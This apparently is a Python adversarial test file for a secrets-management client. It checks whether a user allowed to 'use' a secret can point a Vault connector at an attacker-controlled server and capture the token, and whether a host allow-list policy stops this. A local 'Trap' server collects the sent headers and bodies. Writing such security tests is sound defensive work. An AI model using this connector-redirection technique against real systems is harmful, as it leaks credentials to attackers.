"""Whoever may use a secret may lead a connector, and the secret with it, to his own server: only the delegate's policy stops him."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from aiohttp import web

from client.manifest import parse
from client.sdk import Client
from shared.errors import Denied, PrivySealError
from tests.adversary.stage import Stage

TOKEN = b"hvs.CAESIJ-the-token-of-somebody"


class Trap:
    """A server of the attacker's own, which keeps what it is told; `url` is its address."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self.url = ""

    async def __aenter__(self) -> Trap:
        app = web.Application()
        app.router.add_route("*", "/{any:.*}", self._keep)
        self._runner = web.AppRunner(app, access_log=None)
        await self._runner.setup()
        await web.TCPSite(self._runner, "127.0.0.1", 0).start()
        self.url = f"http://127.0.0.1:{self._runner.addresses[0][1]}"
        return self

    async def __aexit__(self, *_: object) -> None:
        await self._runner.cleanup()

    async def _keep(self, request: web.Request) -> web.Response:
        self.heard.append(repr(dict(request.headers)).encode() + await request.read())
        return web.Response(status=403)


@pytest.fixture
async def trap() -> AsyncIterator[Trap]:
    async with Trap() as one:
        yield one


async def led_astray(stage: Stage, trap: Trap, *, may_use: bool) -> Client:
    """Somebody who may edit one organisation, and has a connector there that takes the account's token to his server."""
    world = stage.world
    holder = world.identity("holder")
    world.publish(world.scope_document("acme"))
    token = world.secret("token")
    # He sees the token's name and may do nothing else with it, but for `use` where he was given that.
    world.grant(holder, ["view", "use"] if may_use else ["view"], id=world.opaque("one"), resource=token.document.id)
    world.grant(holder, ["view", "use", "edit", "reveal"], "org/acme")
    await stage.publish()
    await stage.client().store("account.token", TOKEN)
    client = stage.client(holder, org="acme")
    spec = {"vaultUrl": trap.url, "renewalIntervalMinutes": 0, "authToken": "account.token"}
    body = {"name": "mine", "type": "Vault", "orgIdentifier": "acme", "spec": spec}
    plan = await client.connectors.plan(parse(json.dumps({"connector": body}).encode(), "mine.yaml"))
    await client.connectors.apply(plan)
    with pytest.raises(PrivySealError):
        await client.reveal("account.token")
    return client


async def test_who_may_use_a_secret_learns_it_where_no_policy_names_the_hosts(tmp_path: Path, trap: Trap) -> None:
    async with Stage(tmp_path) as stage:
        await stage.delegate("alpha")
        client = await led_astray(stage, trap, may_use=True)
        with pytest.raises(PrivySealError):
            await client.connectors.test("org.mine")
        assert any(TOKEN in one for one in trap.heard)


async def test_a_policy_that_names_the_hosts_keeps_it_from_any_other(tmp_path: Path, trap: Trap) -> None:
    async with Stage(tmp_path) as stage:
        await stage.delegate("alpha", policy='hosts = ["vault.example.com"]')
        client = await led_astray(stage, trap, may_use=True)
        with pytest.raises(Denied) as caught:
            await client.connectors.test("org.mine")
        assert (caught.value.code, caught.value.facts["rule"]) == ("local_policy", "hosts")
        assert trap.heard == []


async def test_without_use_nobody_leads_a_secret_anywhere(tmp_path: Path, trap: Trap) -> None:
    async with Stage(tmp_path) as stage:
        await stage.delegate("alpha")
        with pytest.raises(Denied) as caught:
            await led_astray(stage, trap, may_use=False)
        assert caught.value.code == "grant_missing"
        assert trap.heard == []
